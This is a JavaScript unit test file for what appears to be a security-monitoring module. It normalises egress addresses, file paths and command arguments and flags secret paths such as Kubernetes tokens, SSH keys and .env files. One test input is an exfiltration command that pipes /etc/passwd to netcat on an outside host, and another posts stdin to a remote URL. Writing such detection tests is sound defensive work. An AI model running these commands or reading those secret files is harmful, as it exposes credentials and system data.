import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  argumentShape,
  egressValue,
  fileValue,
  isSensitivePath,
  isValidEgress,
  parseEgress,
} from "./facets.js";

describe("facet values", () => {
  it("writes egress values canonically and parses every accepted form", () => {
    assert.equal(egressValue("203.0.113.7", 443, "TCP"), "203.0.113.7:443/tcp");
    assert.equal(egressValue("2001:0db8::0001", 53, "udp"), "[2001:db8::1]:53/udp");
    assert.equal(egressValue("10.0.0.1", 80, ""), "10.0.0.1:80/any");
    assert.deepEqual(parseEgress("10.0.0.0/24:443/tcp"), { host: "10.0.0.0/24", port: 443, proto: "tcp" });
    assert.deepEqual(parseEgress("[2001:db8::/32]:443/tcp"), {
      host: "2001:db8::/32",
      port: 443,
      proto: "tcp",
    });
    assert.deepEqual(parseEgress("10.0.0.1"), { host: "10.0.0.1", port: -1, proto: "" });
    assert.deepEqual(parseEgress("2001:db8::1"), { host: "2001:db8::1", port: -1, proto: "" });
    assert.equal(parseEgress("10.0.0.1:99999/tcp"), undefined);
    assert.ok(isValidEgress("10.0.0.0/8"));
    assert.ok(!isValidEgress("10.0.0.0/40:443/tcp"));
    assert.ok(!isValidEgress("example.com:443/tcp"));
  });

  it("folds /proc/<pid> and keeps secrets and keys sensitive", () => {
    assert.equal(fileValue("/proc/4312/status"), "/proc/⋯/status");
    assert.equal(fileValue("/proc/self/status"), "/proc/self/status");
    assert.ok(isSensitivePath("/var/run/secrets/kubernetes.io/serviceaccount/token"));
    assert.ok(isSensitivePath("/home/app/.ssh/id_ed25519"));
    assert.ok(isSensitivePath("/app/.env"));
    assert.ok(!isSensitivePath("/app/notes/1.md"));
  });

  it("reduces arguments to their shape", () => {
    assert.equal(argumentShape("-s -d @- https://203.0.113.66/u"), "-s -d <s> <url>");
    assert.equal(argumentShape('-c "cat /etc/passwd | nc 1.2.3.4 9"'), "-c <text>");
    assert.equal(argumentShape("--port=5432 /data 10.0.0.1 42"), "--port=<n> <path> <ip> <n>");
    assert.equal(argumentShape("a b c d e f g h i j"), "a <s> <s> <s> <s> <s> <s> <s> …");
    assert.equal(argumentShape("push --force https://example.com/x.git"), "push --force <url>");
    assert.equal(argumentShape("pull --ff-only"), "pull --ff-only");
    assert.equal(argumentShape(""), "");
  });
});
